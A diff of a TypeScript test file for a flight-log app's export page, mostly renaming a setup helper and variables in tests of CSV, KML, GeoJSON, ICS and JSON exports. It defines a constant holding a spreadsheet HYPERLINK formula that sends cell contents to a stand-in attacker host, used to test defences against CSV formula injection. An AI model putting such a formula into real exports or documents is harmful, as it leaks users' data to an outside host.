@@ -7,7 +7,7 @@ import { signedIn } from '../../support/pages.ts'
 
 const HOSTILE = '=HYPERLINK("http://evil.example/"&A1)'
 
-async function log() {
+async function setUp() {
   const instance = await signedIn({ now: () => Date.parse('2026-05-03T10:00:00Z') })
   const { airports, airlines } = referenceRows(instance.db)
   const api = instance.as(instance.key(instance.owner.id))
@@ -42,10 +42,10 @@ async function log() {
 
 describe('export page', () => {
   test('requires a sign-in and the permission; unknown formats return 404', async () => {
-    const { app, browser, services, user } = await log()
-    const stranger = browserSession(app)
+    const { app, browser, services, user } = await setUp()
+    const visitor = browserSession(app)
     for (const page of ['/export', '/export/csv']) {
-      expect((await stranger.get(page)).location).toBe(`/login?next=${encodeURIComponent(page)}`)
+      expect((await visitor.get(page)).location).toBe(`/login?next=${encodeURIComponent(page)}`)
       const reader = browserSession(app)
       reader.jar.set('paxlog', await services.sessions.start(user({ role: ['flight.read.own'] }).id))
       expect((await reader.get(page)).status).toBe(403)
@@ -54,7 +54,7 @@ describe('export page', () => {
   })
 
   test('exports exactly the flights that match the filter', async () => {
-    const { browser } = await log()
+    const { browser } = await setUp()
     expect((await browser.get('/export')).html).toContain('The file will contain 2 flights.')
     const { html } = await browser.get('/export?year=2025')
     expect(html).toContain('The file will contain 1 flight.')
@@ -62,11 +62,11 @@ describe('export page', () => {
     expect(files).toHaveLength(5)
     for (const path of files) {
       const { status, headers, html: file } = await browser.get(path)
-      const form = /\/export\/(\w+)/.exec(path)![1]
+      const format = /\/export\/(\w+)/.exec(path)![1]
       expect([path, status, headers['content-disposition']]).toEqual([
         path,
         200,
-        `attachment; filename="paxlog-2026-05-03.${form}"`,
+        `attachment; filename="paxlog-2026-05-03.${format}"`,
       ])
       expect(file).toContain('LX2084')
       expect(file).not.toContain('HND')
@@ -75,13 +75,13 @@ describe('export page', () => {
     expect((await browser.get('/export?text=xyzzy')).html).toContain('No flights match')
   })
 
-  test('JSON is the document of the API', async () => {
-    const { browser, api } = await log()
+  test('JSON equals the export of the API', async () => {
+    const { browser, api } = await setUp()
     expect((await browser.get('/export/json')).html).toBe((await api.get('/flights/export')).text)
   })
 
   test('CSV has one row per flight with local times and no formulas', async () => {
-    const { browser } = await log()
+    const { browser } = await setUp()
     const { html } = await browser.get('/export/csv')
     expect(html.startsWith('\uFEFFDate,')).toBe(true)
     const { data, errors } = Papa.parse<Record<string, string>>(html.slice(1), { header: true, skipEmptyLines: true })
@@ -102,7 +102,7 @@ describe('export page', () => {
   })
 
   test.each(['=', '+', '-', '@', '\t', '\r'])('CSV quotes a note that begins with %j as text', async (first) => {
-    const { browser, api, airports } = await log()
+    const { browser, api, airports } = await setUp()
     const note = `${first}1+1`
     const body = { date: '2023-01-01', fromId: airports.ZRH, toId: airports.LIS, note }
     expect((await api.post('/flights', body)).body.data.note).toBe(note)
@@ -113,22 +113,22 @@ describe('export page', () => {
   })
 
   test('KML has the track or else the route, and is well-formed', async () => {
-    const { browser } = await log()
+    const { browser } = await setUp()
     const { html } = await browser.get('/export/kml')
     expect(html.match(/<Placemark>/g)).toHaveLength(2)
     expect(html).toContain('<altitudeMode>absolute</altitudeMode><coordinates>8.5,47.4,400 0,44,11000 -9.1,38.7,100<')
     expect(html).toMatch(/<tessellate>1<\/tessellate><coordinates>139.\d+,35.\d+ -118.\d+,33.\d+</)
     // All tags are balanced.
     const open: string[] = []
-    for (const [, end, name, own] of html.matchAll(/<(\/?)(\w+)[^>]*?(\/?)>/g)) {
+    for (const [, end, name, selfClosing] of html.matchAll(/<(\/?)(\w+)[^>]*?(\/?)>/g)) {
       if (end) expect(open.pop()).toBe(name)
-      else if (!own) open.push(name!)
+      else if (!selfClosing) open.push(name!)
     }
     expect(open).toEqual([])
   })
 
   test('GeoJSON cuts routes at the 180th meridian and distinguishes tracks from great circles', async () => {
-    const { browser } = await log()
+    const { browser } = await setUp()
     const { features } = JSON.parse((await browser.get('/export/geojson')).html)
     expect(features.map(({ geometry }: { geometry: { type: string } }) => geometry.type)).toEqual([
       'LineString',
@@ -141,14 +141,14 @@ describe('export page', () => {
   })
 
   test('ICS contains the flights with a known day', async () => {
-    const { browser } = await log()
+    const { browser } = await setUp()
     const calendar = new ICAL.Component(ICAL.parse((await browser.get('/export/ics')).html))
     const events = calendar.getAllSubcomponents('vevent')
     expect(events.map((event) => event.getFirstPropertyValue('summary'))).toEqual(['LX2084 ZRH → LIS'])
   })
 
-  test('a long track is exported completely', async () => {
-    const { browser, api, airports } = await log()
+  test('exports a long track completely', async () => {
+    const { browser, api, airports } = await setUp()
     const coordinates = Array.from({ length: 25_000 }, (_, index) => [index / 1000, 1])
     const body = {
       date: '2023-01-01',
